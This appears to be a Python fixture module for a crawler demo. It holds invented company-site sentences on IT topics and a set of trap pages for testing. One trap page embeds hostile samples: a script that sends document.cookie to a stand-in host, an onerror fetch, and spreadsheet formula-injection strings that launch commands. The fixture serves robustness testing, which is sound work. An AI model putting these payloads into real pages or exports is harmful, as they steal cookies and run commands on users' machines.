"""Words of the demo's company sites: sentences per topic, closings and the trap pages."""

# ruff: noqa: E501 - patterns and prose read better unbroken

from __future__ import annotations

TOPIC_SENTENCES: dict[str, tuple[str, ...]] = {
    "cloud_migration": (
        "The project moves our business applications off the servers in the back office and onto a public cloud platform.",
        "We expect the migration to the cloud to finish before the end of the financial year.",
        "A cloud engineer will join the team to plan each workload and its cut-over.",
    ),
    "data_centre": (
        "Our server room is running out of space and the hardware reaches the end of support next year.",
        "The infrastructure team is reviewing the colocation contract and the cost of new servers.",
        "Windows Server and SQL Server versions on site need to be upgraded or replaced.",
    ),
    "virtualisation": (
        "Most of our servers already run as virtual machines, and the hypervisor licence is up for renewal.",
        "Branch staff will use virtual desktops instead of local PCs.",
        "We are comparing virtualisation platforms on cost and ease of management.",
    ),
    "remote_work": (
        "Many colleagues now work from home part of the week and need secure remote access.",
        "Hybrid working is here to stay, so we are rethinking the office and our tools.",
        "The role can be done remotely with occasional visits to the office.",
    ),
    "collaboration": (
        "Teams across our sites share documents, chat and meet by video in one place.",
        "The new intranet replaces long email chains and scattered shared drives.",
        "Good collaboration tools matter as the company grows.",
    ),
    "email": (
        "Our email still runs on an ageing mail server that we want to retire.",
        "Shared mailboxes and calendars will move to a hosted email service.",
        "Better spam filtering is part of the change.",
    ),
    "crm": (
        "Our sales team tracks leads and the pipeline in spreadsheets, which no longer scales.",
        "A CRM system will give sales and service one view of each customer.",
        "Account managers will log calls and follow-ups against the customer record.",
    ),
    "erp": (
        "Orders, stock and purchasing will run in one ERP system alongside finance.",
        "The operations team wants real-time inventory across our warehouses.",
        "Production planning and supplier management are part of the scope.",
    ),
    "accounting": (
        "The finance team wants to close the books faster and automate invoices and payroll.",
        "We are leaving our desktop accounting package for a cloud ledger.",
        "Month-end reporting should take days, not weeks.",
    ),
    "low_code": (
        "Staff will build simple apps themselves to replace paper forms.",
        "Approval workflows will be automated on a low-code platform.",
        "Citizen developers in each department get training and support.",
    ),
    "devices": (
        "Every employee will get a new laptop as part of the device refresh.",
        "Field staff are moving to tablets that are managed centrally.",
        "Old Windows machines will be replaced this year.",
    ),
    "security": (
        "After a phishing attempt we are rolling out multi-factor authentication to everyone.",
        "Endpoint protection and security awareness training are top priorities.",
        "We are working towards a recognised cyber security certification.",
    ),
    "analytics": (
        "Managers will follow the business in dashboards fed from a data warehouse.",
        "Our first data analyst will turn reports into insights.",
        "Analytics helps us forecast demand and plan staffing.",
    ),
}

CLOSING: tuple[str, ...] = (
    "Thank you to our customers and partners for their support.",
    "Contact us to learn more about what this means for you.",
    "We will share more news in the coming months.",
    "Questions are welcome through the contact page.",
)

_MALFORMED = (
    "<html><head><meta charset=utf-8><body><div><p>Unclosed paragraphs <b>bold <i>mixed</b>"
    "</i><table><tr><td>cell<td>cell<tr><p>stray<a href='/blog/'>blog</div></span>"
    "<!-- a comment that never ends"
)
_PAYLOAD = (
    '<html><head><title>=HYPERLINK("http://evil.invalid/x","Click")</title>'
    "<script>fetch('http://evil.invalid/steal?c='+document.cookie)</script></head><body>"
    "<article><h1>=cmd|' /C calc'!A0</h1><p>+SUM(1+1)*cmd|' /C notepad'!A1 and "
    "&lt;script&gt;alert('x')&lt;/script&gt; and @SUM(A1:A9) and -2+3+cmd|'/c calc'!A0</p>"
    "<img src=x onerror=\"fetch('http://evil.invalid/img')\"></article></body></html>"
)

# path -> content (None: served by the server's trap handler)
TRAP_PAGES: dict[str, str | None] = {
    "/trap/slow": None,
    "/trap/huge": None,
    "/trap/loop-a": None,
    "/trap/chain-0": None,
    "/trap/binary.bin": None,
    "/trap/report.pdf": None,
    "/trap/fake.html": None,
    "/malformed.html": _MALFORMED,
    "/payload.html": _PAYLOAD,
}
